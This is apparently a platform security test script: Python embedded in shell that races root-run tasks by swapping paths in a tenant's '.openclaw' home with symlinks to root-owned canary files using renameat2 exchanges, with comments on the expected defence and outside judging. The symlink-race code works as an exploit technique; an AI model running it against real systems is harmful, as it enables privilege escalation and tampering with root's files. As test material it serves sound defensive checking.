#!/bin/sh
# Tries: to lead the tasks that root runs in its home astray, by exchanging every path that they visit for a link, again and again
# Refused by: the platform: whatever is below a home is done as its user, or by a walk that refuses links
# Enforced where:
# Judged from outside: while it runs (SECONDS_TO_RUN, 10 by default) tasks are run on this instance, and afterwards CANARY_FILE (a file
# of root's) and CANARY_DIR (a folder of root's) must be as they were, and nothing of them may have come into the tenant's reach.
# Each path has a process of its own, which exchanges it with a link in one step (renameat2), so that there is always something there.
# At the end everything is in its place again. It exits with 2, since it cannot judge itself.
exec python3 - <<'P'
import ctypes, os, signal, sys, time
libc = ctypes.CDLL(None, use_errno=True)
EXCHANGE = 2
home, seconds = os.environ["OWN_HOME"], float(os.environ.get("SECONDS_TO_RUN") or 10)
canary_file, canary_dir = os.environ["CANARY_FILE"], os.environ["CANARY_DIR"]
FOLDERS = (".openclaw", ".openclaw/logs", ".openclaw/workspace", ".openclaw/workspace/skills", ".openclaw/skills", ".openclaw/devices")
FILES = (".openclaw/openclaw.json", ".openclaw/logs/openclaw.jsonl", ".openclaw/workspace/SOUL.md", ".openclaw/devices/paired.json")
ended, children = False, []
def end(*_):
    global ended
    ended = True
    for child in children:
        os.kill(child, signal.SIGTERM)
signal.signal(signal.SIGTERM, end)
# Folders first: each path is reached by the folder that it is in, opened now, whatever happens to the names above it later.
jobs, made = [], []
for path in FOLDERS + FILES:
    full = os.path.join(home, path)
    if not os.path.lexists(full):
        made.append(full)
        if path in FOLDERS:
            os.mkdir(full, 0o700)
        else:
            os.close(os.open(full, os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o600))
    parent = os.open(os.path.dirname(full), os.O_RDONLY | os.O_DIRECTORY)
    jobs.append((parent, os.path.basename(full), canary_dir if path in FOLDERS else canary_file))
reading, writing = os.pipe()
until = time.monotonic() + seconds
for parent, name, target in jobs:
    child = os.fork()
    if child:
        children.append(child)
        continue
    children = []
    link, count, exchanged = f".{name}.hostile", 0, False
    # A link to the canary, one that goes up from here, and one that leads over a second link.
    second = f".{name}.second"
    targets = (target, "../" * 12 + target.lstrip("/"), second)
    os.symlink(target, second, dir_fd=parent)
    while not ended and time.monotonic() < until:
        os.symlink(targets[count % 3], link, dir_fd=parent)
        for _ in range(50):
            for _ in (0, 1):
                if libc.renameat2(parent, link.encode(), parent, name.encode(), EXCHANGE) == 0:
                    exchanged = not exchanged
                    count += 1
        if exchanged and libc.renameat2(parent, link.encode(), parent, name.encode(), EXCHANGE) == 0:
            exchanged = False
        # What a task put into the place of the link (a new file, by rename) stays; only a link of ours is removed.
        for _ in range(2):
            try:
                os.readlink(link, dir_fd=parent)
                os.unlink(link, dir_fd=parent)
                break
            except FileNotFoundError:
                break
            except OSError:
                libc.renameat2(parent, link.encode(), parent, name.encode(), EXCHANGE)
    os.unlink(second, dir_fd=parent)
    os.write(writing, f"{count}\n".encode())
    os._exit(0)
os.close(writing)
total = 0
with os.fdopen(reading) as counts:
    total = sum(map(int, counts))
for child in children:
    os.waitpid(child, 0)
for full in reversed(made):
    try:
        os.rmdir(full) if os.path.isdir(full) else os.unlink(full)
    except OSError:
        pass
print(f"exchanged {len(jobs)} paths {total} times; judged from outside")
sys.exit(2)
P
